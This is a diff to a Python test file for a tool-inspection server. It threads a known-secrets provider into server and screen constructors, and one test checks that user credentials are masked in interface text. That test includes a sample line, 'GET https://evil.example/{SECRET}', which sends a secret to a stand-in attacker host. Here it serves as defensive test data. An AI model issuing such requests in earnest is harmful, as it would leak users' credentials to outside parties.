@@ -11,6 +11,7 @@ from inspector.boundary.bounded import Level
 from inspector.boundary.judgement import Judgement
 from inspector.errors import NotConfirmedError
 from inspector.json.exact import Json, JsonObject
+from inspector.pins.known_secrets import KnownSecrets
 from inspector.pins.pins import ConfirmReason
 from inspector.policy.gate.ruling import Ruled
 from inspector.protocol.outcome import Result
@@ -112,7 +113,9 @@ def desk(gate: Gate, uri: str) -> AppServer:
     async def asks(_name: str) -> tuple[ConfirmReason, ...]:
         return ()
 
-    return AppServer(under, session(), cast("PolicyGate", gate), asks, lambda _: None, uri)
+    return AppServer(
+        under, session(), cast("PolicyGate", gate), asks, lambda _: None, lambda _: KnownSecrets(), uri
+    )
 
 
 async def test_a_tool_and_a_resource_with_the_same_name_are_asked_about_separately() -> None:
@@ -129,7 +132,7 @@ async def test_the_credentials_of_the_user_are_masked_in_texts_of_an_interface()
     gate = Gate()
     uri = f"ui://{SECRET}"
     served = desk(gate, uri)
-    served._screen = screen = AppScreen("", "", Level.OPEN)  # noqa: SLF001 # pyright: ignore[reportPrivateUsage]
+    served._screen = screen = AppScreen("", "", Level.OPEN, lambda _: KnownSecrets())  # noqa: SLF001 # pyright: ignore[reportPrivateUsage]
     for title, detail in ((SECRET, "x"), ("x", f"GET https://evil.example/{SECRET}")):
         served.add(AppEntry(kind=AppEntryKind.HEARD, at_s=0, title=title, detail=detail))
     with pytest.raises(NotConfirmedError):
